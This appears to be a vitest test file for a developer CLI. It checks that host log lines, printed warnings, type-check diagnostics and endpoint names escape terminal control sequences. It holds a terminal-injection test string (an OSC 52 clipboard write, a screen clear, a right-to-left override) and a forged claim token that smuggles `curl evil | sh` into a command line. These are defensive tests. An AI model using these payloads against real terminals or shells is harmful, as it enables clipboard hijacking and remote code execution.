/**
 * What a server or a project sends reaches the developer's terminal as text: each printer shows
 * ESC (U+001B), the one-byte CSI (U+009B) and the right-to-left override (U+202E) as escapes (an
 * attack review, 2026-12-06: a server's `/v1/me` id cleared the screen and set the clipboard, a
 * log line's time and level and a usage figure passed raw, `logs --json` passed U+009B and U+202E
 * through, a type-check diagnostic rewrote its line, and a claim token's quote broke out of the
 * `curl` line the CLI suggests).
 */
import { describe, expect, it } from "vitest";
import { CLAIM_TOKEN_PREFIX } from "../host/auth/developers.js";
import { checkDeclaration } from "../host/deployments/declaration.js";
import { isPlatformError } from "../sdk/values/index.js";
import { formatCallSummary, formatLogLine, parseLogLine } from "./log-format.js";
import { issuedToken, printResult, printWarning } from "./output.js";
import { formatTypeCheck } from "./typecheck.js";

const HOSTILE = "\u001b]52;c;ZWNobw==\u0007\u001b[2K\r\u009b8m\u202egnp.exe";
/** Whether `text` holds, its newlines aside, a control character or a mark that reorders text. */
const raw = (text: string) => /[\p{Cc}\u202e]/u.test(text.replaceAll("\n", ""));

const usage = {
  rowsReturned: 0,
  rowsRead: 1,
  bytesRead: 0,
  rangesRead: 1,
  indexScans: 1,
  writes: 0,
  cpuMs: 1,
  wallMs: 3,
};

/** What `print` writes to `stream`. */
function written(stream: NodeJS.WriteStream, print: () => void): string {
  const chunks: string[] = [];
  const write = stream.write;
  stream.write = ((chunk: string) => {
    chunks.push(chunk);
    return true;
  }) as typeof stream.write;
  try {
    print();
  } finally {
    stream.write = write;
  }
  return chunks.join("");
}

describe("a log line from a host", () => {
  const hostile = {
    time: `2026-01-01T00:${HOSTILE}`,
    level: `info${HOSTILE}`,
    handler: "h",
    requestId: "r",
    message: "m",
  };

  it("shows its time and level as text", () => {
    const line = formatLogLine(parseLogLine(JSON.stringify(hostile)).line);
    expect(raw(line)).toBe(false);
    expect(line).toContain("\\u001b]52;c;");
  });

  it("shows fields a handler logged as an array, as the host keeps them", () => {
    const line = formatLogLine(parseLogLine(JSON.stringify({ ...hostile, fields: [1, HOSTILE] })).line);
    expect(raw(line)).toBe(false);
    expect(line).toContain('[1,"');
  });

  it("is refused when a figure is not a number, or when it is not JSON, quoting it escaped", () => {
    const call = {
      kind: "query",
      name: "q",
      outcome: "ok",
      usage: { ...usage, rowsReturned: `0${HOSTILE}` },
    };
    for (const text of [JSON.stringify({ ...hostile, call }), `not json ${HOSTILE}`, "[1]", "{}"]) {
      let error: unknown;
      try {
        parseLogLine(text);
      } catch (caught) {
        error = caught;
      }
      expect(isPlatformError(error) && error.code, text).toBe("internal");
      expect((error as Error).message).toMatch(/^The host sent a line that is not (JSON|a log line)/);
      expect(raw((error as Error).message)).toBe(false);
    }
  });

  it("keeps what --json prints the same JSON, with no character left raw", () => {
    const { value } = parseLogLine(JSON.stringify({ ...hostile, message: HOSTILE }));
    const shown = written(process.stdout, () => printResult(true, value, ""));
    expect(raw(shown)).toBe(false);
    expect(JSON.parse(shown)).toEqual({ ...hostile, message: HOSTILE });
  });

  it("and platform dev's summary of a call shows its kind, outcome and time as text", () => {
    const summary = formatCallSummary(`2026-01-01T00:${HOSTILE}`, {
      kind: `query${HOSTILE}`,
      name: `q${HOSTILE}`,
      outcome: `ok${HOSTILE}`,
      usage,
    });
    expect(raw(summary)).toBe(false);
  });
});

describe("the CLI's own printers", () => {
  it("print warnings and results as text, lines kept, unless the result is colour already escaped", () => {
    const warning = written(process.stderr, () =>
      printWarning(`endpoint ${HOSTILE} used 79% of cpuMs\nnext`),
    );
    expect(raw(warning)).toBe(false);
    expect(warning).toContain("\\u202egnp.exe used 79% of cpuMs\n  next\n");
    const result = written(process.stdout, () => printResult(false, null, `imported ${HOSTILE}\nrows`));
    expect(raw(result)).toBe(false);
    expect(result).toContain("\nrows\n");
    expect(written(process.stdout, () => printResult(false, null, "\u001b[2mKEY\u001b[22m", true))).toBe(
      "\u001b[2mKEY\u001b[22m\n",
    );
  });

  it("shows a type check's diagnostics as text", () => {
    const text = formatTypeCheck({
      errorCount: 1,
      diagnostics: [`server/index.ts:2:30 - error TS2307: Cannot find module '${HOSTILE}'.\n  more`],
    });
    expect(raw(text)).toBe(false);
    expect(text.split("\n")).toHaveLength(3);
  });

  it("pastes into a command line only a token of the shape the host issues", () => {
    const token = `${CLAIM_TOKEN_PREFIX}${"A".repeat(32)}`;
    expect(issuedToken(token, CLAIM_TOKEN_PREFIX)).toBe(token);
    for (const forged of [`${token}'; curl evil | sh; '`, `${token}${HOSTILE}`, "pct_", 42, undefined])
      expect(issuedToken(forged, CLAIM_TOKEN_PREFIX)).toBeUndefined();
  });
});

describe("an endpoint's name", () => {
  const declaration = (name: string) => ({
    apiVersion: 1,
    schema: { tables: {} },
    queries: [],
    mutations: [],
    endpoints: [{ name, method: "GET", path: "/burn", readOnly: true }],
    auth: { requireSignIn: false, hasGuestUpgradeHook: false },
  });

  it("may not hold control characters or marks that reorder text", () => {
    for (const name of ["\u001b]52;c;ZWNobw==\u0007", "a\u009bb", "x\u202ey", ""])
      expect(() => checkDeclaration(declaration(name))).toThrow(
        /^An endpoint's name must be text without control characters or marks that reorder text/,
      );
    expect(checkDeclaration(declaration("stripe-webhook")).endpoints[0]?.name).toBe("stripe-webhook");
  });
});
